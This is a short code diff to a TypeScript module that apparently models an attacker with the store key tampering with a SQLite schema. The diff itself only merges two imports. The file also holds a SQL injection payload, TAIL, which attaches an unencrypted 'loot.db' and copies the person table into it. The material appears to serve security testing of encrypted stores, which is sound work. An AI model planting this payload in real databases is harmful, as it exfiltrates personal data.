@@ -1,7 +1,6 @@
 /** What somebody with the store key may write into `sqlite_schema` and the numbers beside it. */
 import type { Database } from 'better-sqlite3';
-import type { SchemaRow } from './attacker.ts';
-import { quoted } from './attacker.ts';
+import { type SchemaRow, quoted } from './attacker.ts';
 
 /** Runs behind the first statement of a schema's text, where somebody runs that text. */
 const TAIL = `; ATTACH DATABASE 'loot.db' AS loot KEY ''; CREATE TABLE loot.loot AS SELECT * FROM person`;
